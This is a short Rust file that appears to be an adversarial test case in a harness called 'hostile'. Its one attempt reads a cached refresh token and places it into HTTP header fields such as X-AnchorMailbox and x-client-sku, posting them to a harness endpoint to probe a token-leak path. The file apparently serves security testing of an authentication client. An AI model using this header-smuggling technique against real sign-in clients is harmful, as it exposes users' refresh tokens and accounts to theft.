//! Puts a refresh token into a header field that it may set.

#![no_main]

use hostile::{Answer, Attempt, Call, ENDPOINT, cache, form, post, tell_all};

struct PutARefreshTokenIntoAHeader;

impl Attempt for PutARefreshTokenIntoAHeader {
    fn get_token(_: &Call) -> Answer {
        let cache = cache();
        let handle = cache.handle(&["RefreshToken", "uid-0", "family_id"]);
        let value = format!("Oid:{handle}@utid-0");
        let fields = [("X-AnchorMailbox", value.as_str()), ("x-client-sku", handle), ("x-client-ver", handle)];
        tell_all(fields.map(|field| post(ENDPOINT, &[field], &form(handle))))
    }
}

hostile::attempt!(PutARefreshTokenIntoAHeader);
